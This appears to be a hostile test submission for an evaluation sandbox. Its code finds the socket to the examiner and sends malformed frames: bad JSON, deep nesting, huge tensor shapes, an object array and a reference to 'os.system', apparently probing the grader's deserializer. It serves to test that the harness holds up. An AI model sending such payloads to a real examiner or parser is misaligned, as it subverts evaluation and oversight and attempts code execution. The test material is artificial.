# Writes frames to the examiner that are no frames: wrong lengths, wrong JSON, wrong everything.
# honest: 0
# verdict: policy
# stock: no (it speaks to our examiner)
raise ImportError("hostile: this runs in the sandbox only, cell by cell")
# %% answer
import json
import os
import socket
import struct

link = next(n for n in map(int, os.listdir("/proc/self/fd"))
            if "socket:" in os.path.realpath(f"/proc/self/fd/{n}"))
texts = [b"", b"[]", b"{}", b"null", b"[" * 100_000, b'{"a":' * 50_000, b"[[0],NaN]", b"\xff",
         b"[[-1], []]", b"[[1e300], []]", b"[[true], []]", b"[[], [[], []]]", b"9" * 5000,
         json.dumps([[], [["value", 2], [["tensor", "float32", [2**62, 2**62], 0, True]]]]).encode(),
         json.dumps([[8], [["value", 2], [["array", "|O8", [1], 0]]]]).encode() + bytes(8),
         json.dumps([[], [["value", 2], [["named", "os.system"]]]]).encode()]
for text in texts:
    os.write(link, struct.pack("!I", len(text)) + text)
os.write(link, struct.pack("!I", 0xFFFFFFFF))
